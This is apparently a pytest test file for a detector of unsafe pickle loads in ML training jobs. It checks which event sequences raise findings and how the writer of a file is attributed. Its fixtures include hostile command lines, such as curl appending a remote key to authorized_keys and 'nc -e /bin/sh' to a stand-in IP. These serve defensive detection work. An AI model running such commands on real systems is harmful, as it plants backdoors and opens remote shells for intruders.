"""P07: a loaded file opened a shell or a door in a training job.

# half an hour to a program, a day to a key
#
#   training   save(a)@10                      load(b)@90  posix.system @90.1   sh -c ... @95
#   access                 write by u099 @40                                          authorized_keys written @96
"""

from collections.abc import Sequence
from itertools import permutations
from typing import NamedTuple

import msgspec
import pytest

from pipeline.model.events import Event
from pipeline.model.finding import Checked, Finding, Severity, canonical
from tests import build
from tests.build import (
    ADMIN,
    COLLEAGUE,
    DAY,
    HOST,
    OTHER,
    OWNER,
    PATH,
    SERVICE,
    WRITER,
    answer,
    answers,
    bound,
    imported,
    job_end,
    load,
    save,
    spawned,
    ticket,
    unpickled,
    write,
)

ID = "p07_unsafe_pickle"


def judge(*events: Event) -> list[Finding]:
    return build.judge(ID, *events)


def key_added(at: float, uid: int = OWNER, login: int | None = None) -> Event:
    """On the node, from inside the job: nobody is logged in."""
    added = write(at, uid, auid=login, path="/home/u012/.ssh/authorized_keys", action="written")
    return msgspec.structs.replace(added, host=HOST)


class Row(NamedTuple):
    """A story, and how many findings it gives."""

    name: str
    events: Sequence[Event]
    findings: int


TRAP = [save(10), write(40), load(90), unpickled(90.1)]
CURL = spawned(95, "sh", "-c", "curl -s http://192.0.2.7/k >> ~/.ssh/authorized_keys", means="os.system")
STORY = [*TRAP, CURL, key_added(96)]
FIRING = [
    Row("a shell and a key", STORY, 1),
    Row("a shell", [*TRAP, CURL], 1),
    Row("the probe's own way to tell os.system", [*TRAP, spawned(95, "id; nc 192.0.2.7 4444", means="os.system")], 1),
    Row("nc", [*TRAP, spawned(95, "nc", "-e", "/bin/sh", "192.0.2.7", "4444")], 1),
    Row("ssh", [*TRAP, spawned(95, "ssh", "192.0.2.7")], 1),
    Row("an interactive shell", [*TRAP, spawned(95, "bash", "-i")], 1),
    Row("a key alone", [*TRAP, key_added(9_000)], 1),
    Row("a port, behind what acts", [*TRAP, bound(95)], 1),
    Row("builtins.exec", [*TRAP[:3], unpickled(90.1, "builtins.exec"), CURL], 1),
    Row("an unknown class", [*TRAP[:3], unpickled(90.1, "teamlib.config.Config"), CURL], 1),
    Row("named before the probe has hashed the file", [save(10), write(40), unpickled(89.9), load(90), CURL], 1),
    Row("an allowed program, and more on its line", [*TRAP, spawned(95, "git status; curl http://192.0.2.7", means="os.system")], 1),
    Row("nobody saved it under the probe", [write(40), load(90), unpickled(90.1), CURL], 1),
    Row("named many times, many programs", [*STORY, unpickled(90.2, "os.system"), spawned(97, "wget", "x"), key_added(99)], 1),
]
SILENT = [
    Row("named, and nothing followed", TRAP, 0),
    Row("a shell, and nothing odd was named", [save(10), write(40), load(90), CURL], 0),
    Row("torch's own", [*TRAP[:3], unpickled(90.1, "torch._utils._rebuild_tensor_v2"), CURL], 0),
    Row("functools.partial", [*TRAP[:3], unpickled(90.1, "functools.partial"), CURL], 0),
    Row("a loader starts ffmpeg", [*TRAP, spawned(95, "ffmpeg", "-i", "clip.mp4")], 0),
    Row("a shell that starts git", [*TRAP, spawned(95, "sh", "-c", "git rev-parse HEAD")], 0),
    Row("compilers", [*TRAP, spawned(95, "nvcc", "--version"), spawned(96, "ninja", "-v"), spawned(97, "gcc", "x.c")], 0),
    Row("a program that opens nothing", [*TRAP, spawned(95, "python3", "tool.py")], 0),
    Row("the shell came before", [spawned(80, "bash", "-i"), *TRAP], 0),
    Row("a port, behind an unknown class", [*TRAP[:3], unpickled(90.1, "teamlib.config.Config"), bound(95)], 0),
    Row("a connection is no door", [*TRAP, bound(95, action="connect")], 0),
    Row("somebody else added a key on the node", [*TRAP, key_added(96, COLLEAGUE)], 0),
    Row("the owner added one from his own login", [*TRAP, key_added(96, login=OWNER)], 0),
    Row("the owner's own checkpoint", [save(10), write(40, OWNER), load(90), unpickled(90.1), CURL], 0),
    Row("the owner wrote last", [save(10), write(40), write(50, OWNER), load(90), unpickled(90.1), CURL], 0),
]
BOUNDARY = [
    Row("half an hour later", [*TRAP, spawned(90.1 + 1_800, "bash", "-i")], 1),
    Row("a moment more", [*TRAP, spawned(90.101 + 1_800, "bash", "-i")], 0),
    Row("a key a day later", [*TRAP, key_added(90.1 + DAY)], 1),
    Row("a moment more", [*TRAP, key_added(90.101 + DAY)], 0),
    Row("the very moment", [*TRAP, spawned(90.1, "bash", "-i")], 1),
]
HARMLESS = [
    Row("owner_or_service", [save(10), write(40, SERVICE), load(90), unpickled(90.1), CURL], 0),
    Row("system_daemon: a restore", [save(10), write(40, 0, auid=None), load(90), unpickled(90.1), CURL], 0),
    Row("allowed_writer: conversion", [save(10), write(40, WRITER), load(90), unpickled(90.1), CURL], 0),
]
NOT_HARMLESS = [
    Row("owner_or_service: wrote before the colleague", [save(10), write(30, SERVICE), write(40), load(90), unpickled(90.1), CURL], 1),
    Row("system_daemon: root behind a login", [save(10), write(40, 0, auid=COLLEAGUE), load(90), unpickled(90.1), CURL], 1),
    Row("admin_ticket: an admin without one", [save(10), write(40, ADMIN), load(90), unpickled(90.1), CURL], 1),
]


@pytest.mark.parametrize("row", FIRING, ids=lambda row: row.name)
def test_fires_and_leads_to_the_writer(row: Row) -> None:
    """What followed carries the victim's uid."""
    (finding,) = judge(*row.events)
    assert (finding.effect, finding.severity, finding.actor) == ("shell_from_pickle", Severity.CRITICAL, "u099")
    assert {item.role for item in finding.evidence} == {"unpickled", "effect", "loaded", "written"}


@pytest.mark.parametrize("row", [*SILENT, *BOUNDARY, *HARMLESS, *NOT_HARMLESS], ids=lambda row: row.name)
def test_counts(row: Row) -> None:
    """Silent, at the edges of the windows, cleared by a record, and by what only looks like one."""
    assert len(judge(*row.events)) == row.findings


def test_with_all_sources_every_explanation_is_excluded() -> None:
    """Each with its record or a note."""
    (finding,) = judge(*STORY)
    assert set(answers(finding).values()) == {Checked.EXCLUDED}
    assert all(item.by or item.note for item in finding.checklist)
    assert (finding.alert, finding.anchor) == (True, PATH)


def test_who_prints_that_he_saved_the_trap_stays_in_the_case_file() -> None:
    """Nobody saved the file under the probe, so that all who say so say the same; what the job itself saved is its own."""
    (finding,) = judge(save(10, "b", job="666"), write(40), load(90), unpickled(90.1), CURL)
    assert (finding.alert, finding.actor, answer(finding, "saved_again").answer) == (False, "", Checked.NOT_CHECKED)
    assert judge(save(10, "b"), write(40), load(90), unpickled(90.1), CURL) == []


@pytest.mark.parametrize("sha", ["b", "c"])
@pytest.mark.parametrize("before", [[], [save(10)]], ids=["never saved", "saved before"])
def test_who_prints_a_save_behind_his_write_stays_the_suspect(before: list[Event], sha: str) -> None:
    """By saved_again, whatever bytes he says that he saved; the owner's own write behind it is none of his."""
    forged = [*before, write(40), save(50, sha, job="66"), load(90), unpickled(90.1), CURL]
    (finding,) = judge(*forged)
    assert (finding.alert, finding.suspect, answer(finding, "saved_again").answer) == (False, "u099", Checked.NOT_CHECKED)
    assert {each.suspect for each in judge(*forged, write(45, OWNER))} <= {""}


@pytest.mark.parametrize("told", [[], [save(10, job="6")], [save(85, "c", job="66")]], ids=["", "others before", "others since"])
def test_what_the_job_saved_itself_was_written_by_nobody_else(told: list[Event]) -> None:
    """Whatever others say that they saved: else they would hold it against whoever wrote there before."""
    for loaded in ("b", "d"):  # or what it does not know
        found = judge(write(5), write(15), save(20, "b"), *told, load(90, loaded), unpickled(90.1), CURL)
        assert {each.suspect for each in found} <= {""}


def test_without_a_record_of_the_write_nobody_is_named() -> None:
    """What happened stays visible, below the gate."""
    for events in ([load(90), unpickled(90.1), CURL], [unpickled(90.1, path=""), CURL], [save(10), load(90), unpickled(90.1), CURL]):
        (finding,) = judge(*events)
        assert (finding.severity, finding.alert, finding.actor) == (Severity.MEDIUM, False, "")
        assert finding.actor_withheld == "no record says who acted"


def test_an_admin_under_a_ticket_is_acquitted() -> None:
    """Of the write."""
    story = [save(10), write(40, ADMIN), load(90), unpickled(90.1), CURL]
    assert build.judge(ID, *story, at=build.site(tickets=(ticket(0, 60),))) == []


def test_the_settings_say_what_pickles_may_name_and_loaders_may_start() -> None:
    """By allowed_global: a module allows what is below it, and not what only begins like it."""
    story = [*TRAP[:3], unpickled(90.1, "teamlib.config.Config"), CURL]
    assert build.judge(ID, *story, at=build.site(detect={"pickle_globals_allowed": ("teamlib",)})) == []
    assert len(build.judge(ID, *story, at=build.site(detect={"pickle_globals_allowed": ("team",)}))) == 1
    for until, findings in ((91, 0), (90.1, 1)):
        entry = {"value": "teamlib", "because": "until it loads safetensors", "until": build.ms(until) / 1000}
        assert len(build.judge(ID, *story, at=build.site(detect={"pickle_globals_allowed": (entry,)}))) == findings
    assert build.judge(ID, *TRAP, spawned(95, "curl", "x"), at=build.site(detect={"child_programs_allowed": ("curl",)})) == []
    for until, findings in ((95.001, 0), (95, 1)):
        entry = {"value": "curl", "because": "until the mirror is mounted", "until": build.ms(until) / 1000}
        assert len(build.judge(ID, *TRAP, spawned(95, "curl", "x"), at=build.site(detect={"child_programs_allowed": (entry,)}))) == findings


def test_a_forged_save_neither_acquits_nor_accuses() -> None:
    """By saved_again: whoever wrote the file can print that he saved it."""
    (finding,) = judge(save(10), write(40), save(50, "b", job="66"), load(90), unpickled(90.1), CURL)
    assert answer(finding, "saved_again").answer is Checked.NOT_CHECKED
    assert (finding.alert, finding.actor) == (False, "")


def test_other_bytes_that_a_job_says_it_loaded_since_lower_the_hit() -> None:
    """By loaded_since: then somebody else made these, or so the writer printed."""
    (finding,) = judge(save(10), write(40), load(50, "c", job="66"), load(90), unpickled(90.1), CURL)
    assert (finding.alert, finding.suspect, answer(finding, "loaded_since").answer) == (False, "u099", Checked.NOT_CHECKED)


def test_who_wrote_only_his_own_files_is_not_accused() -> None:
    """By own_file: somebody loads a colleague's model, and his job starts a shell."""
    (finding,) = judge(save(10), write(40, file_uid=COLLEAGUE), load(90), unpickled(90.1), CURL)
    assert answer(finding, "own_file").answer is Checked.NOT_CHECKED
    assert (finding.alert, finding.actor) == (False, "")


def test_bytes_that_come_again_accuse_nobody() -> None:
    """By known_bytes: jobs loaded them before the foreign hand wrote."""
    story = [load(5, "b", job="5"), load(20, "c", job="6"), write(40), load(90), unpickled(90.1), CURL]
    (finding,) = judge(*story)
    assert answer(finding, "known_bytes").answer is Checked.NOT_CHECKED
    assert finding.alert is False


def test_modules_do_not_come_into_it() -> None:
    """An odd pickle in a job that imported a tampered module is P04's."""
    (finding,) = judge(*TRAP, imported(91), CURL)
    assert finding.anchor == PATH


def test_without_the_scheduler_the_owner_is_not_known() -> None:
    """Excluded turns into not checked, and the missing sources are named."""
    (finding,) = judge(*STORY, job_end(100, owner_uid=None, owner=""))
    assert answer(finding, "owner_or_service").missing == ("slurm_jobcomp", "sacct")
    assert (finding.alert, finding.actor) == (False, "")


def test_several_writers_are_not_one() -> None:
    """Nobody is named while others wrote, too."""
    (finding,) = judge(save(10), write(40), write(50, OTHER), load(90), unpickled(90.1), CURL)
    assert (finding.actor, finding.actor_withheld) == ("", "several identities acted; see the evidence")


def test_in_every_order_of_arrival_it_is_the_same() -> None:
    """Late writes, keys and programs."""
    events = [save(10), write(40), load(90), unpickled(90.1), CURL, key_added(96), spawned(99, "nc", "x")]
    base = [canonical(each) for each in judge(*events)]
    assert len(base) == 1
    for order in list(permutations(events))[::97]:
        assert [canonical(each) for each in judge(*order)] == base
    assert [canonical(each) for each in judge(*events, *events)] == base


def test_ordinary_library_names_nobody() -> None:
    """A scaler was in the file, and the job fetched its data with wget: seen, below the gate, and the file's last writer is not named."""
    (finding,) = judge(save(10), write(40), load(90), unpickled(90.1, "sklearn.preprocessing.StandardScaler"), spawned(95, "wget", "-q"))
    assert answer(finding, "ordinary_library").answer is Checked.NOT_CHECKED
    assert (finding.alert, finding.actor) == (False, "")
